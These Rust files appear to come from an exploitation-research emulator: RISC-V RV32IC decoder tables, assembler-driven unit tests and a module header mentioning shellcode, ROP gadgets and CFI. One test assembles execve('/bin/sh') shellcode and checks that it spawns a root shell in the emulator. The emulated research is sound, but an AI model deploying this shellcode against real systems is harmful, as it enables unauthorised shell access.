        m.mem.poke(0x1_0000, &code).unwrap();
        m.regs.set_pc(0x1_0000);
        m.regs.set_sp(0x7e00_0800);
        m
    }

    fn run_steps(m: &mut Machine, n: usize) {
        for _ in 0..n {
            assert!(m.step().unwrap().is_none(), "pc={:#x}", m.regs.pc());
        }
    }

    fn x(m: &Machine, r: u8) -> u32 {
        m.regs.riscv().get(RiscvReg(r))
    }

    #[test]
    fn arithmetic_and_moves() {
        let code = Asm::new()
            .addi(10, 0, 40)
            .addi(10, 10, 2)
            .c_mv(11, 10)
            .addi(11, 11, -42)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 4);
        assert_eq!(x(&m, 10), 42);
        assert_eq!(x(&m, 11), 0);
    }

    #[test]
    fn x0_writes_are_discarded() {
        let code = Asm::new().addi(0, 0, 123).c_li(0, 7).finish();
        let mut m = machine(code);
        run_steps(&mut m, 2);
        assert_eq!(x(&m, 0), 0);
    }

    #[test]
    fn auipc_reads_executing_pc() {
        // Mix a 2-byte parcel before the auipc so the executing pc is
        // 0x1_0002 — auipc must see the *current* pc, not an aligned one.
        let code = Asm::new().c_nop().auipc(10, 0x1000).finish();
        let mut m = machine(code);
        run_steps(&mut m, 2);
        assert_eq!(x(&m, 10), 0x1_0002 + 0x1000);
    }

    #[test]
    fn loads_and_stores_roundtrip() {
        let code = Asm::new()
            .lui(5, 0x3_0000)
            .addi(6, 0, 0xAB)
            .sw(6, 5, 8)
            .lw(7, 5, 8)
            .sb(6, 5, 12)
            .lbu(8, 5, 12)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 6);
        assert_eq!(x(&m, 7), 0xAB);
        assert_eq!(x(&m, 8), 0xAB);
        assert_eq!(m.mem.read_u32(0x3_0008, 0).unwrap(), 0xAB);
    }

    #[test]
    fn jal_links_and_jalr_returns() {
        // 0x10000: jal ra, +8 → 0x10008
        // 0x10004: addi a0, x0, 1   (returned here)
        // 0x10008: ret (c.jr ra)
        let code = Asm::new().jal(1, 8).addi(10, 0, 1).c_ret().finish();
        let mut m = machine(code);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1_0008);
        assert_eq!(x(&m, 1), 0x1_0004);
        run_steps(&mut m, 1);
        assert_eq!(m.regs.pc(), 0x1_0004);
        run_steps(&mut m, 1);
        assert_eq!(x(&m, 10), 1);
    }

    #[test]
    fn branches_compare_registers() {
        let code = Asm::new()
            .addi(10, 0, 5)
            .addi(11, 0, 5)
            .beq(10, 11, 8) // taken → skips the next insn
            .addi(12, 0, 99) // skipped
            .bne(10, 11, 8) // not taken
            .addi(13, 0, 7)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 5);
        assert_eq!(x(&m, 12), 0);
        assert_eq!(x(&m, 13), 7);
    }

    #[test]
    fn compressed_and_wide_streams_interleave() {
        let code = Asm::new()
            .c_li(10, 3)
            .slli(10, 10, 4)
            .c_addi(10, 2)
            .finish();
        let mut m = machine(code);
        run_steps(&mut m, 3);
        assert_eq!(x(&m, 10), 50);
        // 2 + 4 + 2 bytes consumed.
        assert_eq!(m.regs.pc(), 0x1_0008);
    }

    #[test]
    fn riscv_execve_shellcode() {
        // auipc a0, 0; addi a0, a0, 20; li a1, 0; li a2, 0; li a7, 221;
        // ecall; then "/bin/sh\0" at start+20.
        let code = Asm::new()
            .auipc(10, 0)
            .addi(10, 10, 20)
            .c_li(11, 0)
            .c_li(12, 0)
            .addi(17, 0, 221)
            .ecall()
            .raw(b"/bin/sh\0")
            .finish();
        assert_eq!(code.len(), 20 + 8);
        let mut m = machine(code);
        let out = m.run(10);
        assert!(out.is_root_shell(), "{out}");
        match out {
            RunOutcome::ShellSpawned(s) => {
                assert_eq!(s.program, "/bin/sh");
                assert_eq!(s.via, "execve");
            }
            other => panic!("unexpected {other}"),
        }
    }

    #[test]
    fn exit_syscall_terminates() {
        let code = Asm::new().addi(10, 0, 3).addi(17, 0, 93).ecall().finish();
        let mut m = machine(code);
        let out = m.run(10);
        assert_eq!(out, RunOutcome::Exited(3));
    }

    #[test]
    fn odd_pc_faults_but_halfword_pc_executes() {
        let mut m = machine(Asm::new().c_nop().c_nop().finish());
        m.regs.set_pc(0x1_0001);
        assert_eq!(m.step(), Err(Fault::UnalignedFetch { pc: 0x1_0001 }));
        // pc % 4 == 2 is legal with the C extension.
        m.regs.set_pc(0x1_0002);
        assert!(m.step().unwrap().is_none());
        assert_eq!(m.regs.pc(), 0x1_0004);
    }

    #[test]
    fn misaligned_decode_inside_wide_insn_is_a_different_stream() {
        // lui a0, 0x77e00 → bytes 37 05 e0 77. Entering at +2 sees
        // e0 77 …: parcel 0x77e0 (quadrant 0, funct3=011) is outside the
        // subset → illegal, but crucially it is *decoded as its own
        // stream*, not rejected for alignment.
        let code = Asm::new().lui(10, 0x77e0_0000).c_ret().finish();
        let mut m = machine(code);
        m.regs.set_pc(0x1_0002);
        let err = m.step().unwrap_err();
        assert!(
            matches!(err, Fault::IllegalInstruction { pc: 0x1_0002, .. }),
            "{err:?}"
        );
    }

    #[test]
    fn cfi_blocks_hijacked_ret() {
        let code = Asm::new().c_ret().finish();
        let mut m = machine(code);
        m.enable_cfi();
        m.regs.riscv_mut().set(RiscvReg::RA, 0x3_0000);
        assert!(matches!(m.step(), Err(Fault::CfiViolation { .. })));
    }

    #[test]
    fn ebreak_traps() {
        let mut m = machine(Asm::new().c_ebreak().finish());
        assert!(matches!(
            m.step(),
            Err(Fault::IllegalInstruction { pc: 0x1_0000, .. })
        ));
    }
}
