//! RV32IC (RISC-V 32-bit base + compressed) subset: decoder,
//! assembler and executor.
//!
//! The subset is sized to the paper's needs: enough to express the
//! firmware's parsing loops, the libc call linkage, shellcode, and ROP
//! gadgets. Two properties distinguish it from the x86/ARM siblings:
//!
//! * **2-byte pc granularity.** With the C extension, IALIGN is 16:
//!   only odd pcs fault. A pc of `text+2` inside a 4-byte instruction
//!   is architecturally fetchable and decodes a *different* instruction
//!   stream — the misaligned-gadget surface the exploit crate scans at
//!   a 2-byte stride.
//! * **Pre-expanded compression.** The decoder maps every RVC parcel
//!   onto its base-RV32I expansion ([`Insn`] has no compressed
//!   variants), so the executor, IR lowering and CFI see one uniform
//!   instruction set, with only the encoded length (2 or 4) varying.
//!
//! Like [`x86`](crate::x86) and [`arm`](crate::arm), decoding is
//! driven by declarative [`decode_table!`](crate::decode_table) rules
//! ([`RV32_RULES`], [`RVC_RULES`]) with the hand-rolled decoder kept as
//! [`decode_reference`] for differential testing and benchmarking.

mod asm;
mod exec;
mod insn;

pub use asm::Asm;
pub use insn::{decode, decode_reference, DecodeError, Insn, RV32_RULES, RVC_RULES};

pub(crate) use exec::{decode_at, ends_block, exec_insn, step};
