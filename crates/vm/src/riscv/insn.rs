//! RV32IC instruction forms and the decoder.
//!
//! Compressed (C-extension) parcels decode **to the same [`Insn`]
//! variants as their 32-bit expansions** — `c.jr ra` decodes to
//! `Jalr { rd: 0, rs1: 1, offset: 0 }` exactly like the 4-byte
//! `jalr x0, 0(ra)` — so the executor, IR lowering, CFI return
//! detection, and gadget semantics are uniform across encodings. Only
//! the returned length (2 or 4) differs, which is what makes
//! 2-byte-misaligned entry into the middle of a 4-byte instruction a
//! *different stream*, not a different machine.

use std::error::Error;
use std::fmt;

use crate::regs::RiscvReg;

/// One decoded RV32 instruction. RVC forms are pre-expanded: every
/// variant here is a base-RV32I operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum Insn {
    /// `lui rd, imm` — `imm` is the already-shifted upper immediate.
    Lui {
        /// Destination register.
        rd: u8,
        /// Upper immediate, pre-shifted (low 12 bits zero).
        imm: u32,
    },
    /// `auipc rd, imm` — `rd = pc + imm`.
    Auipc {
        /// Destination register.
        rd: u8,
        /// Upper immediate, pre-shifted.
        imm: u32,
    },
    /// `jal rd, offset` — link in `rd` (x0: plain jump, x1: call).
    Jal {
        /// Link register (0 = none).
        rd: u8,
        /// Byte offset from this instruction.
        offset: i32,
    },
    /// `jalr rd, offset(rs1)` — `jalr x0, 0(ra)` (and its `c.jr ra`
    /// alias `ret`) is the function-return idiom CFI keys on.
    Jalr {
        /// Link register (0 = none).
        rd: u8,
        /// Base register.
        rs1: u8,
        /// Signed 12-bit offset.
        offset: i32,
    },
    /// `beq rs1, rs2, offset`.
    Beq {
        /// Left comparand.
        rs1: u8,
        /// Right comparand.
        rs2: u8,
        /// Byte offset from this instruction.
        offset: i32,
    },
    /// `bne rs1, rs2, offset`.
    Bne {
        /// Left comparand.
        rs1: u8,
        /// Right comparand.
        rs2: u8,
        /// Byte offset from this instruction.
        offset: i32,
    },
    /// `lw rd, offset(rs1)`.
    Lw {
        /// Destination register.
        rd: u8,
        /// Base register.
        rs1: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `lbu rd, offset(rs1)`.
    Lbu {
        /// Destination register (byte zero-extended).
        rd: u8,
        /// Base register.
        rs1: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `sw rs2, offset(rs1)`.
    Sw {
        /// Source register.
        rs2: u8,
        /// Base register.
        rs1: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `sb rs2, offset(rs1)`.
    Sb {
        /// Source register (low byte stored).
        rs2: u8,
        /// Base register.
        rs1: u8,
        /// Signed byte offset.
        offset: i32,
    },
    /// `addi rd, rs1, imm` (covers `c.nop`/`c.addi`/`c.li`/
    /// `c.addi16sp`/`c.addi4spn` and `mv`).
    Addi {
        /// Destination register.
        rd: u8,
        /// Source register.
        rs1: u8,
        /// Sign-extended immediate.
        imm: i32,
    },
    /// `andi rd, rs1, imm`.
    Andi {
        /// Destination register.
        rd: u8,
        /// Source register.
        rs1: u8,
        /// Sign-extended immediate.
        imm: i32,
    },
    /// `ori rd, rs1, imm`.
    Ori {
        /// Destination register.
        rd: u8,
        /// Source register.
        rs1: u8,
        /// Sign-extended immediate.
        imm: i32,
    },
    /// `xori rd, rs1, imm`.
    Xori {
        /// Destination register.
        rd: u8,
        /// Source register.
        rs1: u8,
        /// Sign-extended immediate.
        imm: i32,
    },
    /// `slli rd, rs1, shamt`.
    Slli {
        /// Destination register.
        rd: u8,
        /// Source register.
        rs1: u8,
        /// Shift amount (0..=31).
        shamt: u8,
    },
    /// `srli rd, rs1, shamt`.
    Srli {
        /// Destination register.
        rd: u8,
        /// Source register.
        rs1: u8,
        /// Shift amount (0..=31).
        shamt: u8,
    },
    /// `add rd, rs1, rs2` (covers `c.mv`/`c.add`).
    Add {
        /// Destination register.
        rd: u8,
        /// Left operand.
        rs1: u8,
        /// Right operand.
        rs2: u8,
    },
    /// `sub rd, rs1, rs2`.
    Sub {
        /// Destination register.
        rd: u8,
        /// Left operand.
        rs1: u8,
        /// Right operand.
        rs2: u8,
    },
    /// `ecall` — the Linux syscall gate (number in `a7`).
    Ecall,
    /// `ebreak` — used as a trapping filler, like x86 `hlt`.
    Ebreak,
}

/// Why bytes failed to decode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecodeError {
    /// The window ended mid-instruction (fewer than 2 bytes, or fewer
    /// than 4 for a 32-bit encoding).
    Truncated,
    /// The encoding is outside the supported subset (16-bit parcels are
    /// reported zero-extended).
    Unsupported(u32),
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::Truncated => write!(f, "instruction bytes truncated"),
            DecodeError::Unsupported(w) => write!(f, "unsupported instruction {w:#010x}"),
        }
    }
}

impl Error for DecodeError {}

/// Sign-extends the low `bits` bits of `v`.
fn sext(v: u32, bits: u32) -> i32 {
    ((v << (32 - bits)) as i32) >> (32 - bits)
}

// ---- RV32I field extractors ----

fn rd(w: u32) -> u8 {
    ((w >> 7) & 0x1F) as u8
}

fn rs1(w: u32) -> u8 {
    ((w >> 15) & 0x1F) as u8
}

fn rs2(w: u32) -> u8 {
    ((w >> 20) & 0x1F) as u8
}

/// I-type immediate (bits 31:20, sign-extended).
fn imm_i(w: u32) -> i32 {
    (w as i32) >> 20
}

/// S-type immediate (imm[11:5]=bits 31:25, imm[4:0]=bits 11:7).
fn imm_s(w: u32) -> i32 {
    sext(((w >> 25) & 0x7F) << 5 | ((w >> 7) & 0x1F), 12)
}

/// B-type immediate (imm[12|10:5]=bits 31|30:25, imm[4:1|11]=bits 11:8|7).
fn imm_b(w: u32) -> i32 {
    sext(
        ((w >> 31) & 1) << 12
            | ((w >> 7) & 1) << 11
            | ((w >> 25) & 0x3F) << 5
            | ((w >> 8) & 0xF) << 1,
        13,
    )
}

/// J-type immediate (imm[20|10:1|11|19:12]=bits 31|30:21|20|19:12).
fn imm_j(w: u32) -> i32 {
    sext(
        ((w >> 31) & 1) << 20
            | ((w >> 12) & 0xFF) << 12
            | ((w >> 20) & 1) << 11
            | ((w >> 21) & 0x3FF) << 1,
        21,
    )
}

// ---- RVC field extractors ----

/// Full-width rd/rs1 field (bits 11:7).
fn c_rd(p: u16) -> u8 {
    ((p >> 7) & 0x1F) as u8
}

/// Full-width rs2 field (bits 6:2).
fn c_rs2(p: u16) -> u8 {
    ((p >> 2) & 0x1F) as u8
}

/// Compressed rd'/rs2' (bits 4:2, registers x8..x15).
fn c_rdp(p: u16) -> u8 {
    8 + ((p >> 2) & 0x7) as u8
}

/// Compressed rs1'/rd' (bits 9:7, registers x8..x15).
fn c_rs1p(p: u16) -> u8 {
    8 + ((p >> 7) & 0x7) as u8
}

/// 6-bit signed immediate (imm[5]=bit 12, imm[4:0]=bits 6:2).
fn c_imm6(p: u16) -> i32 {
    sext((((p as u32) >> 12) & 1) << 5 | ((p as u32) >> 2) & 0x1F, 6)
}

/// `c.j`/`c.jal` offset (imm[11|4|9:8|10|6|7|3:1|5]).
fn c_imm_j(p: u16) -> i32 {
    let p = p as u32;
    sext(
        ((p >> 12) & 1) << 11
            | ((p >> 11) & 1) << 4
            | ((p >> 9) & 3) << 8
            | ((p >> 8) & 1) << 10
            | ((p >> 7) & 1) << 6
            | ((p >> 6) & 1) << 7
            | ((p >> 3) & 7) << 1
            | ((p >> 2) & 1) << 5,
        12,
    )
}

/// `c.beqz`/`c.bnez` offset (imm[8|4:3|7:6|2:1|5]).
fn c_imm_b(p: u16) -> i32 {
    let p = p as u32;
    sext(
        ((p >> 12) & 1) << 8
            | ((p >> 10) & 3) << 3
            | ((p >> 5) & 3) << 6
            | ((p >> 3) & 3) << 1
            | ((p >> 2) & 1) << 5,
        9,
    )
}

/// `c.lw`/`c.sw` word offset (uimm[5:3|2|6]).
fn c_imm_lsw(p: u16) -> i32 {
    let p = p as u32;
    (((p >> 10) & 7) << 3 | ((p >> 6) & 1) << 2 | ((p >> 5) & 1) << 6) as i32
}

/// `c.lwsp` offset (uimm[5|4:2|7:6]).
fn c_imm_lwsp(p: u16) -> i32 {
    let p = p as u32;
    (((p >> 12) & 1) << 5 | ((p >> 4) & 7) << 2 | ((p >> 2) & 3) << 6) as i32
}

/// `c.swsp` offset (uimm[5:2|7:6]).
fn c_imm_swsp(p: u16) -> i32 {
    let p = p as u32;
    (((p >> 9) & 0xF) << 2 | ((p >> 7) & 3) << 6) as i32
}

/// `c.addi4spn` zero-extended immediate (nzuimm[5:4|9:6|2|3]).
fn c_imm_4spn(p: u16) -> i32 {
    let p = p as u32;
    (((p >> 11) & 3) << 4 | ((p >> 7) & 0xF) << 6 | ((p >> 6) & 1) << 2 | ((p >> 5) & 1) << 3)
        as i32
}

/// `c.addi16sp` immediate (nzimm[9|4|6|8:7|5], sign-extended).
fn c_imm_16sp(p: u16) -> i32 {
    let p = p as u32;
    sext(
        ((p >> 12) & 1) << 9
            | ((p >> 6) & 1) << 4
            | ((p >> 5) & 1) << 6
            | ((p >> 3) & 3) << 7
            | ((p >> 2) & 1) << 5,
        10,
    )
}

/// Decodes one instruction from the start of `bytes` via the
/// declarative tables, returning it and the number of bytes consumed
/// (2 for a compressed parcel, 4 for a base word).
///
/// # Errors
///
/// Returns [`DecodeError::Truncated`] if the window is too short or
/// [`DecodeError::Unsupported`] for encodings outside the subset
/// (including the all-zero parcel, the architectural illegal
/// instruction).
pub fn decode(bytes: &[u8]) -> Result<(Insn, usize), DecodeError> {
    decode_with(bytes, decode_word, decode_parcel)
}

/// The hand-rolled decoder, retained as the reference implementation
/// for the decode-table differential tests and the
/// table-vs-hand-rolled bench ablation.
///
/// # Errors
///
/// Same contract as [`decode`].
pub fn decode_reference(bytes: &[u8]) -> Result<(Insn, usize), DecodeError> {
    decode_with(bytes, decode_word_reference, decode_parcel_reference)
}

/// Shared front half: the low two bits of the first parcel select the
/// encoding length (`11` = 32-bit, anything else = 16-bit compressed).
fn decode_with(
    bytes: &[u8],
    word_decoder: fn(u32) -> Option<Insn>,
    parcel_decoder: fn(u16) -> Option<Insn>,
) -> Result<(Insn, usize), DecodeError> {
    if bytes.len() < 2 {
        return Err(DecodeError::Truncated);
    }
    let parcel = u16::from_le_bytes([bytes[0], bytes[1]]);
    if parcel & 3 == 3 {
        if bytes.len() < 4 {
            return Err(DecodeError::Truncated);
        }
        let w = u32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]);
        let insn = word_decoder(w).ok_or(DecodeError::Unsupported(w))?;
        Ok((insn, 4))
    } else {
        if parcel == 0 {
            // The all-zero parcel is the canonical illegal instruction.
            return Err(DecodeError::Unsupported(0));
        }
        let insn = parcel_decoder(parcel).ok_or(DecodeError::Unsupported(parcel as u32))?;
        Ok((insn, 2))
    }
}

fn decode_word(w: u32) -> Option<Insn> {
    crate::decoder::find(RV32_RULES, w).and_then(|r| (r.decode)(w))
}

fn decode_parcel(p: u16) -> Option<Insn> {
    crate::decoder::find(RVC_RULES, p).and_then(|r| (r.decode)(p))
}

crate::decode_table! {
    /// Base RV32I encodings, keyed on the full 32-bit word. Masks pin
    /// opcode (bits 6:0) plus funct3/funct7 where the form needs them.
    pub static RV32_RULES: u32 => fn(u32) -> Option<Insn> {
        "lui"    => (0x0000_007F, 0x0000_0037, |w| Some(Insn::Lui { rd: rd(w), imm: w & 0xFFFF_F000 })),
        "auipc"  => (0x0000_007F, 0x0000_0017, |w| Some(Insn::Auipc { rd: rd(w), imm: w & 0xFFFF_F000 })),
        "jal"    => (0x0000_007F, 0x0000_006F, |w| Some(Insn::Jal { rd: rd(w), offset: imm_j(w) })),
        "jalr"   => (0x0000_707F, 0x0000_0067, |w| Some(Insn::Jalr { rd: rd(w), rs1: rs1(w), offset: imm_i(w) })),
        "beq"    => (0x0000_707F, 0x0000_0063, |w| Some(Insn::Beq { rs1: rs1(w), rs2: rs2(w), offset: imm_b(w) })),
        "bne"    => (0x0000_707F, 0x0000_1063, |w| Some(Insn::Bne { rs1: rs1(w), rs2: rs2(w), offset: imm_b(w) })),
        "lw"     => (0x0000_707F, 0x0000_2003, |w| Some(Insn::Lw { rd: rd(w), rs1: rs1(w), offset: imm_i(w) })),
        "lbu"    => (0x0000_707F, 0x0000_4003, |w| Some(Insn::Lbu { rd: rd(w), rs1: rs1(w), offset: imm_i(w) })),
        "sw"     => (0x0000_707F, 0x0000_2023, |w| Some(Insn::Sw { rs2: rs2(w), rs1: rs1(w), offset: imm_s(w) })),
        "sb"     => (0x0000_707F, 0x0000_0023, |w| Some(Insn::Sb { rs2: rs2(w), rs1: rs1(w), offset: imm_s(w) })),
        "addi"   => (0x0000_707F, 0x0000_0013, |w| Some(Insn::Addi { rd: rd(w), rs1: rs1(w), imm: imm_i(w) })),
        "andi"   => (0x0000_707F, 0x0000_7013, |w| Some(Insn::Andi { rd: rd(w), rs1: rs1(w), imm: imm_i(w) })),
        "ori"    => (0x0000_707F, 0x0000_6013, |w| Some(Insn::Ori { rd: rd(w), rs1: rs1(w), imm: imm_i(w) })),
        "xori"   => (0x0000_707F, 0x0000_4013, |w| Some(Insn::Xori { rd: rd(w), rs1: rs1(w), imm: imm_i(w) })),
        "slli"   => (0xFE00_707F, 0x0000_1013, |w| Some(Insn::Slli { rd: rd(w), rs1: rs1(w), shamt: rs2(w) })),
        "srli"   => (0xFE00_707F, 0x0000_5013, |w| Some(Insn::Srli { rd: rd(w), rs1: rs1(w), shamt: rs2(w) })),
        "add"    => (0xFE00_707F, 0x0000_0033, |w| Some(Insn::Add { rd: rd(w), rs1: rs1(w), rs2: rs2(w) })),
        "sub"    => (0xFE00_707F, 0x4000_0033, |w| Some(Insn::Sub { rd: rd(w), rs1: rs1(w), rs2: rs2(w) })),
        "ecall"  => (0xFFFF_FFFF, 0x0000_0073, |_w| Some(Insn::Ecall)),
        "ebreak" => (0xFFFF_FFFF, 0x0010_0073, |_w| Some(Insn::Ebreak)),
    }
}

crate::decode_table! {
    /// C-extension encodings, keyed on the 16-bit parcel. Masks pin the
    /// quadrant (bits 1:0) and funct3 (bits 15:13), plus funct4/funct6
    /// bits where quadrants subdivide. Every extractor returns the
    /// RV32I *expansion*.
    pub static RVC_RULES: u16 => fn(u16) -> Option<Insn> {
        "c.addi4spn" => (0xE003, 0x0000, |p| {
            let imm = c_imm_4spn(p);
            (imm != 0).then_some(Insn::Addi { rd: c_rdp(p), rs1: 2, imm })
        }),
        "c.lw" => (0xE003, 0x4000, |p| {
            Some(Insn::Lw { rd: c_rdp(p), rs1: c_rs1p(p), offset: c_imm_lsw(p) })
        }),
        "c.sw" => (0xE003, 0xC000, |p| {
            Some(Insn::Sw { rs2: c_rdp(p), rs1: c_rs1p(p), offset: c_imm_lsw(p) })
        }),
        "c.addi" => (0xE003, 0x0001, |p| {
            // rd=0, imm=0 is c.nop; rd=0 with imm≠0 is a hint — both
            // expand to an addi that the hard-wired x0 makes a no-op.
            Some(Insn::Addi { rd: c_rd(p), rs1: c_rd(p), imm: c_imm6(p) })
        }),
        "c.jal" => (0xE003, 0x2001, |p| Some(Insn::Jal { rd: 1, offset: c_imm_j(p) })),
        "c.li" => (0xE003, 0x4001, |p| {
            Some(Insn::Addi { rd: c_rd(p), rs1: 0, imm: c_imm6(p) })
        }),
        "c.addi16sp/c.lui" => (0xE003, 0x6001, |p| {
            if c_imm6(p) == 0 {
                return None; // reserved (nzimm == 0)
            }
            if c_rd(p) == 2 {
                Some(Insn::Addi { rd: 2, rs1: 2, imm: c_imm_16sp(p) })
            } else {
                Some(Insn::Lui { rd: c_rd(p), imm: (c_imm6(p) << 12) as u32 })
            }
        }),
        "c.srli" => (0xEC03, 0x8001, |p| {
            // shamt[5] (bit 12) must be 0 on RV32.
            (p & 0x1000 == 0).then_some(Insn::Srli {
                rd: c_rs1p(p),
                rs1: c_rs1p(p),
                shamt: c_rs2(p) & 0x1F,
            })
        }),
        "c.andi" => (0xEC03, 0x8801, |p| {
            Some(Insn::Andi { rd: c_rs1p(p), rs1: c_rs1p(p), imm: c_imm6(p) })
        }),
        "c.sub" => (0xFC63, 0x8C01, |p| {
            Some(Insn::Sub { rd: c_rs1p(p), rs1: c_rs1p(p), rs2: c_rdp(p) })
        }),
        "c.j" => (0xE003, 0xA001, |p| Some(Insn::Jal { rd: 0, offset: c_imm_j(p) })),
        "c.beqz" => (0xE003, 0xC001, |p| {
            Some(Insn::Beq { rs1: c_rs1p(p), rs2: 0, offset: c_imm_b(p) })
        }),
        "c.bnez" => (0xE003, 0xE001, |p| {
            Some(Insn::Bne { rs1: c_rs1p(p), rs2: 0, offset: c_imm_b(p) })
        }),
        "c.slli" => (0xF003, 0x0002, |p| {
            Some(Insn::Slli { rd: c_rd(p), rs1: c_rd(p), shamt: c_rs2(p) & 0x1F })
        }),
        "c.lwsp" => (0xE003, 0x4002, |p| {
            (c_rd(p) != 0).then_some(Insn::Lw { rd: c_rd(p), rs1: 2, offset: c_imm_lwsp(p) })
        }),
        "c.jr/c.mv" => (0xF003, 0x8002, |p| {
            if c_rs2(p) == 0 {
                // c.jr: jalr x0, 0(rs1); rs1=0 is reserved. `c.jr ra`
                // expands to the return idiom.
                (c_rd(p) != 0).then_some(Insn::Jalr { rd: 0, rs1: c_rd(p), offset: 0 })
            } else {
                Some(Insn::Add { rd: c_rd(p), rs1: 0, rs2: c_rs2(p) })
            }
        }),
        "c.ebreak/c.jalr/c.add" => (0xF003, 0x9002, |p| {
            match (c_rd(p), c_rs2(p)) {
                (0, 0) => Some(Insn::Ebreak),
                (rs1, 0) => Some(Insn::Jalr { rd: 1, rs1, offset: 0 }),
                (rd, rs2) => Some(Insn::Add { rd, rs1: rd, rs2 }),
            }
        }),
        "c.swsp" => (0xE003, 0xC002, |p| {
            Some(Insn::Sw { rs2: c_rs2(p), rs1: 2, offset: c_imm_swsp(p) })
        }),
    }
}

fn decode_word_reference(w: u32) -> Option<Insn> {
    let funct3 = (w >> 12) & 7;
    let funct7 = w >> 25;
    match w & 0x7F {
        0x37 => Some(Insn::Lui {
            rd: rd(w),
            imm: w & 0xFFFF_F000,
        }),
        0x17 => Some(Insn::Auipc {
            rd: rd(w),
            imm: w & 0xFFFF_F000,
        }),
        0x6F => Some(Insn::Jal {
            rd: rd(w),
            offset: imm_j(w),
        }),
        0x67 if funct3 == 0 => Some(Insn::Jalr {
            rd: rd(w),
            rs1: rs1(w),
            offset: imm_i(w),
        }),
        0x63 => match funct3 {
            0 => Some(Insn::Beq {
                rs1: rs1(w),
                rs2: rs2(w),
                offset: imm_b(w),
            }),
            1 => Some(Insn::Bne {
                rs1: rs1(w),
                rs2: rs2(w),
                offset: imm_b(w),
            }),
            _ => None,
        },
        0x03 => match funct3 {
            2 => Some(Insn::Lw {
                rd: rd(w),
                rs1: rs1(w),
                offset: imm_i(w),
            }),
            4 => Some(Insn::Lbu {
                rd: rd(w),
                rs1: rs1(w),
                offset: imm_i(w),
            }),
            _ => None,
        },
        0x23 => match funct3 {
            2 => Some(Insn::Sw {
                rs2: rs2(w),
                rs1: rs1(w),
                offset: imm_s(w),
            }),
            0 => Some(Insn::Sb {
                rs2: rs2(w),
                rs1: rs1(w),
                offset: imm_s(w),
            }),
            _ => None,
        },
        0x13 => match funct3 {
            0 => Some(Insn::Addi {
                rd: rd(w),
                rs1: rs1(w),
                imm: imm_i(w),
            }),
            7 => Some(Insn::Andi {
                rd: rd(w),
                rs1: rs1(w),
                imm: imm_i(w),
            }),
            6 => Some(Insn::Ori {
                rd: rd(w),
                rs1: rs1(w),
                imm: imm_i(w),
            }),
            4 => Some(Insn::Xori {
                rd: rd(w),
                rs1: rs1(w),
                imm: imm_i(w),
            }),
            1 if funct7 == 0 => Some(Insn::Slli {
                rd: rd(w),
                rs1: rs1(w),
                shamt: rs2(w),
            }),
            5 if funct7 == 0 => Some(Insn::Srli {
                rd: rd(w),
                rs1: rs1(w),
                shamt: rs2(w),
            }),
            _ => None,
        },
        0x33 if funct3 == 0 => match funct7 {
            0x00 => Some(Insn::Add {
                rd: rd(w),
                rs1: rs1(w),
                rs2: rs2(w),
            }),
            0x20 => Some(Insn::Sub {
                rd: rd(w),
                rs1: rs1(w),
                rs2: rs2(w),
            }),
            _ => None,
        },
        0x73 => match w {
            0x0000_0073 => Some(Insn::Ecall),
            0x0010_0073 => Some(Insn::Ebreak),
            _ => None,
        },
        _ => None,
    }
}

fn decode_parcel_reference(p: u16) -> Option<Insn> {
    let funct3 = (p >> 13) & 7;
    match p & 3 {
        0b00 => match funct3 {
            0 => {
                let imm = c_imm_4spn(p);
                (imm != 0).then_some(Insn::Addi {
                    rd: c_rdp(p),
                    rs1: 2,
                    imm,
                })
            }
            2 => Some(Insn::Lw {
                rd: c_rdp(p),
                rs1: c_rs1p(p),
                offset: c_imm_lsw(p),
            }),
            6 => Some(Insn::Sw {
                rs2: c_rdp(p),
                rs1: c_rs1p(p),
                offset: c_imm_lsw(p),
            }),
            _ => None,
        },
        0b01 => match funct3 {
            0 => Some(Insn::Addi {
                rd: c_rd(p),
                rs1: c_rd(p),
                imm: c_imm6(p),
            }),
            1 => Some(Insn::Jal {
                rd: 1,
                offset: c_imm_j(p),
            }),
            2 => Some(Insn::Addi {
                rd: c_rd(p),
                rs1: 0,
                imm: c_imm6(p),
            }),
            3 => {
                if c_imm6(p) == 0 {
                    return None;
                }
                if c_rd(p) == 2 {
                    Some(Insn::Addi {
                        rd: 2,
                        rs1: 2,
                        imm: c_imm_16sp(p),
                    })
                } else {
                    Some(Insn::Lui {
                        rd: c_rd(p),
                        imm: (c_imm6(p) << 12) as u32,
                    })
                }
            }
            4 => match (p >> 10) & 3 {
                0 => (p & 0x1000 == 0).then_some(Insn::Srli {
                    rd: c_rs1p(p),
                    rs1: c_rs1p(p),
                    shamt: c_rs2(p) & 0x1F,
                }),
                2 => Some(Insn::Andi {
                    rd: c_rs1p(p),
                    rs1: c_rs1p(p),
                    imm: c_imm6(p),
                }),
                3 if p & 0x1000 == 0 && (p >> 5) & 3 == 0 => Some(Insn::Sub {
                    rd: c_rs1p(p),
                    rs1: c_rs1p(p),
                    rs2: c_rdp(p),
                }),
                _ => None,
            },
            5 => Some(Insn::Jal {
                rd: 0,
                offset: c_imm_j(p),
            }),
            6 => Some(Insn::Beq {
                rs1: c_rs1p(p),
                rs2: 0,
                offset: c_imm_b(p),
            }),
            _ => Some(Insn::Bne {
                rs1: c_rs1p(p),
                rs2: 0,
                offset: c_imm_b(p),
            }),
        },
        0b10 => match funct3 {
            0 => (p & 0x1000 == 0).then_some(Insn::Slli {
                rd: c_rd(p),
                rs1: c_rd(p),
                shamt: c_rs2(p) & 0x1F,
            }),
            2 => (c_rd(p) != 0).then_some(Insn::Lw {
                rd: c_rd(p),
                rs1: 2,
                offset: c_imm_lwsp(p),
            }),
            4 => {
                if p & 0x1000 == 0 {
                    if c_rs2(p) == 0 {
                        (c_rd(p) != 0).then_some(Insn::Jalr {
                            rd: 0,
                            rs1: c_rd(p),
                            offset: 0,
                        })
                    } else {
                        Some(Insn::Add {
